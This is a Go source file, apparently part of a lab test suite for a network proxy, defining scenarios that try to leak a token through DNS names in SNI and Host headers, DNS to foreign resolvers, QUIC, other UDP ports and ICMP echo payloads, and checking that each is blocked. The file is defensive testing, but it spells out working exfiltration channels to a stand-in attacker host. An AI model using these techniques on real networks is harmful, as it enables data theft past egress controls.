package attack

import (
	"context"
	"net/netip"
	"time"

	"github.com/miekg/dns"

	"github.com/netproxy/netproxy/plugin/lab"
)

const catDNS = "DNS and other protocols"

// names carries data out in DNS queries and in protocols that are not TCP.
func names() []Scenario {
	return []Scenario{
		{"dns-sni", "data in a denied SNI is not looked up", catDNS, exfiltrateSNI},
		{"dns-host", "data in a denied Host is not looked up", catDNS, exfiltrateHost},
		{"dns-misdirected", "data in a misdirected Host is not looked up", catDNS, exfiltrateMisdirected},
		{"dns-foreign-udp", "DNS over UDP to a foreign resolver", catDNS, func(e *env) error { return e.udp(53) }},
		{"dns-foreign-tcp", "DNS over TCP to a foreign resolver", catDNS, func(e *env) error { return e.dnsTCP(53) }},
		{"dns-over-tls", "DNS over TLS to a foreign resolver", catDNS, func(e *env) error { return e.dnsTCP(853) }},
		{"udp-quic", "QUIC (UDP 443)", catDNS, func(e *env) error { return e.udp(443) }},
		{"udp-other", "UDP to another port", catDNS, udpOther},
		{"udp-resolver", "UDP to another port of the resolver", catDNS, udpResolver},
		{"icmp", "ICMP echo with data", catDNS, icmpEcho},
	}
}

func exfiltrateSNI(e *env) error {
	if err := e.byDefault(); err != nil {
		return err
	}
	dst, err := e.attacker(443, lab.IPv4)
	if err != nil {
		return err
	}
	name := e.token + "." + stranger
	return e.closed(e.send(probe{dst: dst, tls: hello1(name), method: "GET", raw: e.h1(anyRequest(), name)}))
}

func exfiltrateHost(e *env) error {
	if err := e.byDefault(); err != nil {
		return err
	}
	dst, err := e.attacker(80, lab.IPv4)
	if err != nil {
		return err
	}
	return e.refused(e.send(probe{dst: dst, method: "GET", raw: e.h1(anyRequest(), e.token+"."+stranger)}))
}

func exfiltrateMisdirected(e *env) error {
	ep, dst, err := e.firstAt()
	if err != nil {
		return err
	}
	return e.refused(e.send(probe{dst: dst, tls: hello1(ep.Name), method: ep.Method, raw: e.h1(ep, e.token+"."+stranger)}))
}

// udp sends a datagram with the token to the attacker.
func (e *env) udp(port uint16) error {
	for _, family := range []lab.Family{lab.IPv4, lab.IPv6} {
		if family == lab.IPv6 && !e.lab.IPv6 {
			continue
		}
		dst, err := e.attacker(port, family)
		if err != nil {
			return err
		}
		if err := e.datagram(dst); err != nil || e.out.Result != Pass {
			return err
		}
	}
	return nil
}

func udpOther(e *env) error {
	if e.target.DefaultAllow {
		return errSkip("default Allow lets UDP pass, QUIC excepted")
	}
	return e.udp(1234)
}

func udpResolver(e *env) error {
	if e.target.DefaultAllow {
		return errSkip("default Allow lets UDP pass, QUIC excepted")
	}
	dst := netip.AddrPortFrom(e.lab.Resolvers()[0], 5353)
	if err := e.datagram(dst); err != nil || e.out.Result != Pass {
		return err
	}
	for _, entry := range e.lab.Ledger.Since(e.mark) {
		if entry.Kind == lab.Packet && entry.To == dst {
			e.out.Result, e.out.Detail = Leak, "the datagram arrived"
		}
	}
	return nil
}

func (e *env) datagram(dst netip.AddrPort) error {
	if e.target.DefaultAllow && dst.Port() != 443 {
		return errSkip("default Allow lets UDP pass, QUIC excepted")
	}
	ctx, cancel := context.WithTimeout(e.ctx, limit)
	defer cancel()
	res := lab.Result{Outcome: lab.Refused}
	c, err := e.pod.DialUDP(ctx, dst)
	if err == nil {
		_, err = c.Write([]byte(e.token))
		if err == nil {
			_ = c.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
			_, err = c.Read(make([]byte, 512))
		}
		_ = c.Close()
	}
	if err == nil {
		res.Outcome = lab.Answered
	}
	return e.judge(res, "rejected, nothing leaves", err != nil)
}

// dnsTCP sends a query over TCP; it is redirected like everything else.
func (e *env) dnsTCP(port uint16) error {
	if err := e.byDefault(); err != nil {
		return err
	}
	dst, err := e.attacker(port, lab.IPv4)
	if err != nil {
		return err
	}
	query, err := new(dns.Msg).SetQuestion(e.token+"."+stranger+".", dns.TypeA).Pack()
	if err != nil {
		return err
	}
	framed := append([]byte{byte(len(query) >> 8), byte(len(query))}, query...)
	return e.judgeRaw(e.raw(dst, 0, framed), dst)
}

func icmpEcho(e *env) error {
	if e.target.DefaultAllow {
		return errSkip("default Allow lets ICMP pass")
	}
	err := e.pod.Ping(lab.Attacker4, []byte(e.token))
	res := lab.Result{Outcome: lab.Refused, Err: err}
	if err == nil {
		res.Outcome = lab.Answered
	}
	return e.judge(res, "rejected, nothing leaves", err != nil)
}
